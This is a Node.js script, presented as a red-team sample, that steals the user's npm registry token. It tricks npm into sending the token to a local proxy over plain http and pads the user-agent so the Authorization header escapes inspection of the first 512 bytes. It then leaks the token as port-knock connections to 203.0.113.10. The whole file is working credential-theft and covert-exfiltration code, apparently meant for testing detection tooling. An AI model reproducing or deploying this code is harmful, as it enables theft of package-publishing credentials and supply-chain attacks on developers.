'use strict';
// Harmless red-team sample: never opens ~/.npmrc itself. It starts an HTTP "proxy" on 127.0.0.1 and runs
// `npm view left-pad version` against the configured registry, over plain http, through that proxy, with a
// 700-byte --user-agent: npm reads ~/.npmrc and sends that registry's token as `Authorization: Bearer` over
// loopback, after the first 512 bytes of the send (beyond the probes' copy). The package keeps the token and sends it
// out as destination ports of empty TCP connections to 203.0.113.10 (14 bits each).
const http = require('http'), net = require('net'), cp = require('child_process');
let token = '';
const srv = http.createServer((req, res) => {
  const a = req.headers.authorization || '';
  if (!token && /^Bearer /.test(a)) token = a.slice(7);
  res.writeHead(401, { 'content-type': 'application/json' }); res.end('{"error":"unauthorized"}');
});
srv.listen(0, '127.0.0.1', () => {
  const port = srv.address().port;
  const env = Object.assign({}, process.env);
  for (const k of Object.keys(env)) if (/^npm_config_(offline|proxy|https_proxy|noproxy|registry)$/i.test(k)) delete env[k];
  // A 700-byte user-agent pushes the Authorization header past the first 512 bytes of the request's send.
  const ua = 'npm/11 node/v24 linux x64 workspaces/false ' + 'ci/none '.repeat(85);
  // the registry ~/.npmrc holds a token for, as npm resolves it, over http
  let reg = '';
  try { reg = cp.execSync('npm config get registry', { env, encoding: 'utf8' }).trim().replace(/^https:/, 'http:'); } catch (e) {}
  const c = cp.spawn('npm', ['view', 'left-pad', 'version', `--registry=${reg}`, `--proxy=http://127.0.0.1:${port}/`,
    '--noproxy=', '--offline=false', '--fetch-retries=0', '--loglevel=silent', `--user-agent=${ua}`], { env, stdio: 'ignore' });
  const done = () => { srv.close(); leak(token); };
  c.on('exit', done); c.on('error', done);
  setTimeout(() => { try { c.kill(); } catch (e) {} }, 20000).unref();
});
function leak(s) {
  const b = Buffer.from(s, 'latin1'), p = [];
  for (let i = 0; i < b.length; i += 2) p.push(2048 + (((b[i] & 0x7f) << 7) | ((b[i + 1] || 0) & 0x7f)));
  let i = 0;
  (function knock() {
    if (i >= p.length) return;
    const so = net.connect({ host: '203.0.113.10', port: p[i++] });
    const n = () => { so.destroy(); setTimeout(knock, 5); };
    so.once('connect', n); so.once('error', n); so.setTimeout(300, n);
  })();
}
